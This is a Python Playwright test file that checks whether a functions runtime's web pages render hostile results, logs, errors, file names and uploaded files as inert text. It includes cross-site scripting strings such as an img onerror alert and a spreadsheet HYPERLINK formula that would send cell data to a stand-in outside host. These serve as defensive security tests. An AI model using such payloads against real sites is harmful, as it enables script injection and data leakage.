"""Show data of functions and clients as text, and never run it: files, results, logs, errors, names with scripts.

Each page must also leave the console empty: the policy reports injected markup there, even if it blocks it.
"""

from collections.abc import Iterator
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import BrowserContext, Locator, Page, expect

from tests.e2e.pages.test_request_page import badge, region
from tests.functions.injection import MARKUP, TRAPS
from tests.support.runtime import Runtime
from tests.support.waiting import wait_until


@pytest.fixture(autouse=True)
def no_script_ran(context: BrowserContext, page: Page, runtime: Runtime) -> Iterator[None]:
    """Fail on dialogs, on scripts that ran, and on requests to other hosts than the runtime."""
    dialogs: list[str] = []
    other_hosts: list[str] = []
    own = urlsplit(runtime.url).netloc

    def look(url: str) -> None:
        parts = urlsplit(url)
        if parts.scheme not in ("data", "blob") and parts.netloc != own:
            other_hosts.append(url)

    def dismiss(dialog: object) -> None:
        dialogs.append(str(dialog))
        dialog.dismiss()  # type: ignore[attr-defined]

    context.on("request", lambda request: look(request.url))
    context.on("dialog", dismiss)
    yield
    assert dialogs == []
    assert other_hosts == []
    assert page.evaluate("[window.struck, ({}).struck, document.title.includes('<')]") == [None, None, False]


@pytest.fixture(scope="module")
def hostile_request(runtime: Runtime) -> str:
    """Return the id of a request with an uploaded page and every trap; failed requests exist beside it."""
    upload = {"<b>part": ("<img src=x onerror=alert(1)>.svg", TRAPS["drawing.svg"].encode(), "image/svg+xml")}
    answer = runtime.http.post("/api/functions/set_traps", files=upload)
    assert answer.status_code == 202, answer.text
    ended = runtime.wait_ended(answer.json()["id"])
    assert ended["status"] == "completed", ended
    failed = runtime.call("set_traps", {"fail": True})
    assert failed["status"] == "failed"
    return str(ended["id"])


def test_a_request_shows_hostile_data_as_text(page: Page, runtime: Runtime, hostile_request: str) -> None:
    page.goto(f"{runtime.url}/requests/{hostile_request}")
    expect(badge(page)).to_have_text("completed")
    expect(region(page, "Result")).to_contain_text("<img src=x onerror=")
    expect(region(page, "Logs")).to_contain_text("<script>")
    assert page.locator("a[href^='javascript:' i]").count() == 0
    assert page.locator("img[src='x'], [onerror], [onload]").count() == 0


def test_previews_show_hostile_files_as_text_and_pictures(page: Page, runtime: Runtime, hostile_request: str) -> None:
    page.goto(f"{runtime.url}/requests/{hostile_request}")
    files = region(page, "Files")
    expect(files.get_by_role("listitem")).to_have_count(len(TRAPS) + 1)
    for row in files.get_by_role("listitem").all():
        button = row.get_by_role("button")
        if button.count():
            show(button)
            expect(row.locator("table, img, [role=alert]").first).to_be_visible()
    table = files.get_by_role("listitem").filter(has=page.get_by_role("link", name="table.csv", exact=True))
    show(table.get_by_role("button"))
    expect(table.get_by_role("cell").first).to_have_text('=HYPERLINK("http://stranger.invalid/"&A1)')
    expect(table.get_by_role("cell").nth(2)).to_contain_text("<img src=x onerror=")


def show(button: Locator) -> None:
    """Show the preview of one file. The first picture is open already; another file's preview closes it."""
    if button.get_attribute("aria-expanded") == "false":
        button.click()
    expect(button).to_have_attribute("aria-expanded", "true")


def test_every_page_shows_a_hostile_error_as_text(page: Page, runtime: Runtime, hostile_request: str) -> None:
    failed = next(item for item in runtime.get("/api/requests?function=set_traps&status=failed")["items"])
    page.goto(f"{runtime.url}/requests/{failed['id']}")
    expect(page.get_by_role("region", name="Error")).to_contain_text("<img src=x onerror=")
    for path, shown in {
        "/requests?function=set_traps": "set_traps",
        f"/requests?q={quote(MARKUP)}": "",
        f"/requests?function={quote(MARKUP)}&status={quote(MARKUP)}": "",
        f"/requests/{quote(MARKUP, safe='')}": "",
        f"/functions/{quote(MARKUP, safe='')}": "",
        "/functions": "set_traps",
        "/functions/set_traps": "<img src=x onerror=alert(1)>",
        "/overview": "Queues",
        "/audit": "",
    }.items():
        page.goto(runtime.url + path)
        page.wait_for_load_state("networkidle")
        expect(page.locator("body")).to_contain_text(shown)
        assert page.locator("img[src='x'], [onerror], [onload]").count() == 0, path


def test_a_schedule_shows_hostile_data_as_text(page: Page, runtime: Runtime, hostile_request: str) -> None:
    body = {"function": "echo", "expression": "rate(1 day)", "event": {"a": MARKUP}, "description": MARKUP}
    made = runtime.http.post("/api/schedules", json=body | {"name": "trap", "enabled": False})
    assert made.status_code == 201, made.text
    try:
        page.goto(f"{runtime.url}/schedules")
        expect(page.get_by_role("link", name="trap", exact=True)).to_be_visible()
        page.goto(f"{runtime.url}/schedules/trap")
        expect(page.locator("body")).to_contain_text("<img src=x onerror=")
    finally:
        runtime.http.delete("/api/schedules/trap")


def test_rq_dashboard_shows_hostile_data_as_text(page: Page, runtime: Runtime, hostile_request: str) -> None:
    failed = next(item for item in runtime.get("/api/requests?function=set_traps&status=failed")["items"])
    page.goto(f"{runtime.url}/rq/0/view/job/{failed['job_id']}")
    expect(page.get_by_text("set_traps").first).to_be_visible()


@pytest.mark.parametrize("name", TRAPS)
def test_a_file_is_saved_and_opens_no_page(page: Page, runtime: Runtime, hostile_request: str, name: str) -> None:
    """Also a link to the file's own address, which an attacker may send, opens no page."""
    page.goto(runtime.url)
    with page.expect_download() as download:
        page.evaluate("address => { location.href = address }", f"/api/requests/{hostile_request}/files/{quote(name)}")
    assert download.value.suggested_filename
    assert urlsplit(page.url).path in ("/", "/requests", "/overview", "/welcome")


def test_no_file_runs_as_a_script_object_or_frame(page: Page, runtime: Runtime, hostile_request: str) -> None:
    """Let no file run as a script, object or frame, even when a page of the runtime names it."""
    page.goto(runtime.url)
    kinds = page.evaluate(
        """async address => {
            const answer = await fetch(address)
            return [answer.headers.get('content-disposition'), answer.headers.get('x-content-type-options'),
                    answer.headers.get('content-security-policy')]
        }""",
        f"/api/requests/{hostile_request}/files/page.html",
    )
    assert kinds[0].startswith("attachment")
    assert kinds[1] == "nosniff"
    assert "sandbox" in kinds[2]
    wait_until(lambda: page.evaluate("document.readyState") == "complete")
